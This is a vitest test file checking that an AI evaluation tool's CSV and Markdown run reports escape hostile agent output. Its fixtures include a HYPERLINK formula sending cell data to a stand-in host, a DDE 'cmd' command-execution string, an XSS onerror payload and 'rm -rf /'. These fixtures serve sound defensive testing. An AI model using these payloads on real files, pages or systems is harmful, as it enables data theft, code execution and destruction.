import { afterEach, describe, expect, it } from "vitest";
import { escapeCsvCell, escapeMarkdown } from "@/lib/runs/report-escape";
import { Executor, errorOutcome, type CaseRunner } from "@/lib/runs/executor";
import { getRun, startRun } from "@/lib/runs/service";
import { makeWorkspace, makeSuiteWithCases, reportText, waitFor } from "../helpers/factories";

const HYPERLINK = '=HYPERLINK("http://x.example/?d="&A1,"click")';
const hostile = [
  HYPERLINK,
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\tleading tab",
  "\rleading cr",
  "| a | b |",
  "<img src=x onerror=alert(1)>",
  "`rm -rf /` and ```fence```",
  "# Heading\n## second\n| x | y |",
];

describe("report escaping (unit)", () => {
  it("quotes every formula-leading CSV cell and leaves other text and numbers alone", () => {
    for (const s of [HYPERLINK, "+1+1", "-x", "@a", "\tt", "\rr"]) expect(escapeCsvCell(s)).toBe(`'${s}`);
    expect(escapeCsvCell("plain = text")).toBe("plain = text");
    expect(escapeCsvCell("-12.5")).toBe("-12.5");
    expect(escapeCsvCell("")).toBe("");
  });

  it("makes model text inert in Markdown", () => {
    expect(escapeMarkdown("<img src=x onerror=alert(1)>")).toBe("&lt;img src=x onerror=alert(1)&gt;");
    expect(escapeMarkdown("| a | b |")).toBe("\\| a \\| b \\|");
    expect(escapeMarkdown("use `x`")).toBe("use \\`x\\`");
    expect(escapeMarkdown("# title")).toBe("\\# title");
    expect(escapeMarkdown("1. item")).toBe("1\\. item");
    expect(escapeMarkdown("a & b")).toBe("a &amp; b");
    expect(escapeMarkdown("line1\n# line2", { oneLine: true })).toBe("line1 # line2");
  });
});

/** RFC 4180 rows (quoted fields, doubled quotes, embedded newlines): enough to read the report back. */
function parseCsv(text: string): Record<string, string>[] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = "";
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") endCell();
    else if (c === "\n" || (c === "\r" && text[i + 1] === "\n")) {
      if (c === "\r") i++;
      endCell();
      rows.push(row);
      row = [];
    } else cell += c;
  }
  if (cell !== "" || row.length) {
    endCell();
    rows.push(row);
  }
  const [header, ...body] = rows;
  return body.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i] ?? ""])));
}

const executors: Executor[] = [];
afterEach(async () => {
  await Promise.all(executors.splice(0).map((e) => e.stop(100)));
});

describe("run reports with hostile agent text", () => {
  it("CSV cells cannot run formulas and Markdown cannot inject rows, HTML or code", async () => {
    const { ctx } = await makeWorkspace("editor");
    const { suite } = await makeSuiteWithCases(ctx, hostile.length, { caseData: (i) => ({ name: hostile[i]!.slice(0, 90) }) });
    const runner: CaseRunner = async (job) => ({
      ...errorOutcome("agent", hostile[job.position]!),
      status: "failed",
      actualResponse: hostile[job.position]!,
    });
    const run = await startRun(ctx, suite.id, { concurrency: 4 }, "api");
    const e = new Executor({ runner, pollMs: 20, leaseMs: 2_000 });
    executors.push(e);
    e.start();
    await waitFor(
      () => getRun(ctx, run.id),
      (r) => r.status === "completed",
    );

    const rows = parseCsv(await reportText(ctx, run.id, "csv"));
    expect(rows).toHaveLength(hostile.length);
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        // A spreadsheet evaluates a cell that starts with one of these; every such string cell is quoted.
        if (/^[=+\-@\t\r]/.test(cell)) throw new Error(`live formula in ${column}: ${JSON.stringify(cell)}`);
      }
    }
    expect(rows.map((r) => r.actual_response)).toContain(`'${HYPERLINK}`);

    const markdown = await reportText(ctx, run.id, "markdown");
    expect(markdown).not.toContain("<img");
    expect(markdown).toContain("&lt;img src=x onerror=alert(1)&gt;");
    expect(markdown).not.toMatch(/[^\\]`/);
    expect(markdown).not.toMatch(/[^\\]\| a/);
    // Only the report's own headings start a line with '#'.
    const headings = markdown.split("\n").filter((l) => l.startsWith("#"));
    expect(headings.filter((l) => /^(# Test Report|## Summary|## Test Results)/.test(l))).toHaveLength(3);
    expect(headings.every((l) => /^(# Test Report|## Summary|## Test Results|### )/.test(l))).toBe(true);
    expect(markdown).not.toMatch(/^## second/m);
  });
});
